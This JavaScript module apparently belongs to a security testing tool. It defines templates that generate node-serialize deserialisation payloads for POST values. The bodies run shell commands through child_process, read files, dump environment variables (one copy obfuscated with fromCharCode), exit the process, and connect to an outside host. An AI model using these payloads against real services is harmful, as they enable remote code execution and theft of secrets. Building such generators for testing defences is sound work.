// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { codeGenerator, SERIALIZED } from '../code-generator.js';

/** Objects whose functions run when they are read: node-serialize and its kind. */
export const jsDeserialised = codeGenerator({
  name: 'js-deserialised',
  places: [SERIALIZED],
  location: 'post_values',
  rules: {
    start: [
      '{l}"{letters}":"_$$ND_FUNC$$_function (){l}{body}{r}()"{r}',
      '{l}"{letters}":"_$$ND_FUNC$$_function(){l} {body} {r}()","{letters}":"{letters}"{r}',
      '{l}"username":"_$$ND_FUNC$$_(function(){l}{body}{r})()"{r}',
      '{l}"{letters}":{l}"{letters}":"_$$ND_FUNC$$_function(){l}{body}{r}()"{r}{r}',
      '{l}"{letters}":"_$$ND_FUNC$$_{body-expression}"{r}',
      '{l}"id":{number},"{letters}":"_$$ND_FUNC$$_(()=>{l}{body}{r})()"{r}',
      '{l}"rce":"_$$ND_FUNC$$_function (){l}\\n \\t {body}\\n {r}()"{r}',
    ],
    body: [
      "require('child_process').exec('{command}')",
      "require('child_process').exec('{command}', function(error, stdout, stderr) {l} console.log(stdout) {r});",
      'process.exit()',
      "require('fs').readFileSync('{file}')",
      "return require('child_process').execSync('{command}')",
      "var net=require('net');net.connect({port},'{host}')",
      'eval(String.fromCharCode(112,114,111,99,101,115,115,46,101,110,118))',
      'console.log(process.env)',
    ],
    'body-expression': [
      "require('child_process').execSync('{command}')",
      'process.env',
      "require('http').get('http://{host}/')",
    ],
  },
});
